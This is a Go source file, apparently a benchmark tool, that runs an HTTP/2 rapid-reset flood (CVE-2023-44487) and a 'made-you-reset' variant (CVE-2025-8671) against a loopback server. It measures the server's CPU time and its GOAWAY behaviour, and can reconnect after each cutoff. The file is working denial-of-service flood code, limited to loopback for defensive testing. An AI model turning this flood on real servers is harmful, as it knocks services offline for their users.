// Command resetflood measures what an HTTP/2 rapid-reset flood
// (CVE-2023-44487) costs a server on this machine: on one connection at a
// time it sends the preface, SETTINGS and then pairs of HEADERS (GET
// -path) and RST_STREAM, as fast as the connection takes them, for
// -duration or -max-pairs, whichever ends first. It reports whether and
// when the server sent GOAWAY or closed the connection and, with -pid, the
// server's CPU time over the flood from /proc/PID/stat.
//
//	proactivechat -addr 127.0.0.1:8099 -db /tmp/x.db &
//	go run ./bench/cmd/resetflood -addr 127.0.0.1:8099 -pid $! -duration 10s
//
// It only talks to loopback addresses. With -reconnect it opens a new
// connection whenever the server sends GOAWAY or closes one, until the
// time is up: the cost of a flood that a per-connection limit cuts off,
// but that comes back. See bench/README.md, "HTTP/2 rapid reset".
package main

import (
	"bytes"
	"flag"
	"fmt"
	"net"
	"os"
	"slices"
	"strconv"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:8080", "the server's plain HTTP/2 address (loopback only)")
	pid := flag.Int("pid", 0, "the server's process id, to read its CPU time (0: not measured)")
	duration := flag.Duration("duration", 10*time.Second, "how long to flood")
	maxPairs := flag.Int("max-pairs", 20_000_000, "at most this many HEADERS+RST_STREAM pairs in all")
	path := flag.String("path", "/", "the request path of the HEADERS frames")
	madeYouReset := flag.Bool("made-you-reset", false, "follow each HEADERS with a WINDOW_UPDATE of 0 on its stream, which the server answers with RST_STREAM (CVE-2025-8671), instead of an RST_STREAM")
	batch := flag.Int("batch", 100, "pairs per write: 100 is ~4 KiB; 1 paces the flood by the client's system calls")
	rate := flag.Float64("rate", 0, "pairs per second at most (0: as fast as the connection takes them)")
	reconnect := flag.Bool("reconnect", false, "open a new connection as soon as the server sends GOAWAY or closes one, until -duration")
	flag.Parse()

	host, _, err := net.SplitHostPort(*addr)
	if ip := net.ParseIP(host); err != nil || ip == nil || !ip.IsLoopback() {
		fmt.Fprintf(os.Stderr, "resetflood: -addr %q is not a loopback IP address and port\n", *addr)
		os.Exit(2)
	}
	cpu0 := serverCPU(*pid)
	start := time.Now()
	deadline := start.Add(*duration)
	var total int
	var conns []result
	for total < *maxPairs && time.Now().Before(deadline) {
		r, err := flood(*addr, *path, *madeYouReset, max(*batch, 1), *rate, deadline, *maxPairs-total, !*reconnect)
		if err != nil {
			fmt.Fprintln(os.Stderr, "resetflood:", err)
			os.Exit(1)
		}
		total += r.pairs
		conns = append(conns, r)
		if !*reconnect {
			break
		}
	}
	elapsed := time.Since(start)
	cpu1 := serverCPU(*pid)

	fmt.Printf("flood of %s: %d HEADERS+RST_STREAM pairs on %d connection(s), %.0f pairs/s\n",
		elapsed.Round(time.Millisecond), total, len(conns), float64(total)/elapsed.Seconds())
	if len(conns) > 1 {
		var goAways, closes int
		var took []uint32
		var after []time.Duration
		for _, r := range conns {
			if r.goAway != nil {
				goAways++
				took = append(took, (r.goAway.LastStreamID+1)/2)
				after = append(after, r.goAwayAfter)
			}
			if r.closedAfter > 0 {
				closes++
			}
		}
		fmt.Printf("  GOAWAY on %d of %d connections", goAways, len(conns))
		if goAways > 0 {
			slices.Sort(took)
			slices.Sort(after)
			fmt.Printf(", after %d to %d streams (median %d) and %s to %s (median %s)", took[0], took[len(took)-1], took[len(took)/2],
				after[0].Round(time.Microsecond), after[len(after)-1].Round(time.Microsecond), after[len(after)/2].Round(time.Microsecond))
		}
		fmt.Printf("; closed by the server before a GOAWAY: %d\n", closes)
	}
	for i, r := range conns {
		if i == 3 && len(conns) > 4 {
			fmt.Printf("  … %d more connections\n", len(conns)-4)
			break
		}
		fmt.Printf("  connection %d: %s\n", i+1, r)
	}
	if *pid != 0 {
		used := cpu1 - cpu0
		fmt.Printf("server CPU: %.2f s over %.2f s (%.2f cores)\n", used.Seconds(), elapsed.Seconds(), used.Seconds()/elapsed.Seconds())
	}
}

// result is what happened on one connection.
type result struct {
	pairs         int // pairs written
	goAway        *http2.GoAwayFrame
	goAwayAfter   time.Duration // from the first pair to the GOAWAY, if any
	pairsByGoAway int           // pairs written when the GOAWAY arrived
	closedAfter   time.Duration // from the first pair to the server's close, if it closed
	floodFor      time.Duration // how long the pairs were written
}

func (r result) String() string {
	var b strings.Builder
	fmt.Fprintf(&b, "%d pairs in %s", r.pairs, r.floodFor.Round(time.Millisecond))
	if r.goAway != nil {
		fmt.Fprintf(&b, "; GOAWAY %s after %s, the server having taken %d streams (last stream %d; %d pairs written by then)",
			r.goAway.ErrCode, r.goAwayAfter.Round(time.Microsecond), (r.goAway.LastStreamID+1)/2, r.goAway.LastStreamID, r.pairsByGoAway)
	} else {
		b.WriteString("; no GOAWAY")
	}
	if r.closedAfter > 0 {
		fmt.Fprintf(&b, "; closed by the server after %s", r.closedAfter.Round(time.Millisecond))
	} else {
		b.WriteString("; not closed by the server")
	}
	return b.String()
}

// flood floods one connection until deadline, maxPairs, a GOAWAY or the
// connection's end; then, if waitClose, it waits up to two seconds for the
// server to close the connection, else it closes it at once, as a flooder
// that comes back would.
func flood(addr, path string, madeYouReset bool, batch int, rate float64, deadline time.Time, maxPairs int, waitClose bool) (result, error) {
	c, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err != nil {
		return result{}, err
	}
	defer c.Close()
	var hello bytes.Buffer
	hello.WriteString(http2.ClientPreface)
	http2.NewFramer(&hello, nil).WriteSettings()
	if _, err := c.Write(hello.Bytes()); err != nil {
		return result{}, err
	}

	type event struct {
		goAway *http2.GoAwayFrame
		at     time.Time
	}
	events := make(chan event, 8)
	go func() {
		fr := http2.NewFramer(nil, c)
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				events <- event{at: time.Now()} // closed (or reset) by the server, or by us
				return
			}
			if g, ok := f.(*http2.GoAwayFrame); ok {
				cp := *g
				events <- event{goAway: &cp, at: time.Now()}
				// Stop writing at once: the server reads no more, so a
				// Write blocks once the socket buffers are full.
				c.SetWriteDeadline(time.Unix(1, 0))
			}
		}
	}()

	var (
		r      result
		buf    bytes.Buffer
		block  bytes.Buffer
		closed bool
	)
	enc := hpack.NewEncoder(&block)
	fr := http2.NewFramer(&buf, nil)
	fr.AllowIllegalWrites = true // a WINDOW_UPDATE of 0
	start := time.Now()
	id := uint32(1)
	c.SetWriteDeadline(deadline)
flood:
	for r.pairs < maxPairs && time.Now().Before(deadline) {
		buf.Reset()
		n := min(batch, maxPairs-r.pairs)
		for range n {
			block.Reset()
			for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", addr}, {":path", path}} {
				enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
			}
			if madeYouReset {
				// The stream stays open for the server to reset it.
				fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndHeaders: true})
				fr.WriteWindowUpdate(id, 0)
			} else {
				fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true})
				fr.WriteRSTStream(id, http2.ErrCodeCancel)
			}
			id += 2
		}
		if rate > 0 { // pace: the pairs written so far are due by now
			time.Sleep(time.Until(start.Add(time.Duration(float64(r.pairs) / rate * float64(time.Second)))))
		}
		_, err := c.Write(buf.Bytes())
		if err == nil {
			r.pairs += n
		}
		// A failed Write: the time is up, a GOAWAY came, or the server
		// closed the connection.
		select {
		case ev := <-events:
			if ev.goAway == nil {
				closed, r.closedAfter = true, ev.at.Sub(start)
				break flood
			}
			r.goAway, r.goAwayAfter, r.pairsByGoAway = ev.goAway, ev.at.Sub(start), r.pairs
			break flood
		default:
			if err != nil {
				break flood
			}
		}
	}
	r.floodFor = time.Since(start)
	if !closed && waitClose {
		// The server keeps the connection for a second after its GOAWAY.
		wait := time.NewTimer(2 * time.Second)
		defer wait.Stop()
	wait:
		for {
			select {
			case ev := <-events:
				if ev.goAway != nil {
					if r.goAway == nil {
						r.goAway, r.goAwayAfter, r.pairsByGoAway = ev.goAway, ev.at.Sub(start), r.pairs
					}
					continue
				}
				r.closedAfter = ev.at.Sub(start)
				break wait
			case <-wait.C:
				break wait
			}
		}
	}
	return r, nil
}

// serverCPU is the user and system CPU time of process pid (0 when pid is 0).
func serverCPU(pid int) time.Duration {
	if pid == 0 {
		return 0
	}
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	if err != nil {
		fmt.Fprintln(os.Stderr, "resetflood:", err)
		os.Exit(1)
	}
	// The fields after the command name, which is in parentheses.
	s := string(b)
	f := strings.Fields(s[strings.LastIndexByte(s, ')')+1:])
	ut, _ := strconv.ParseInt(f[11], 10, 64)
	st, _ := strconv.ParseInt(f[12], 10, 64)
	return time.Duration(ut+st) * time.Second / 100 // USER_HZ is 100 on Linux
}
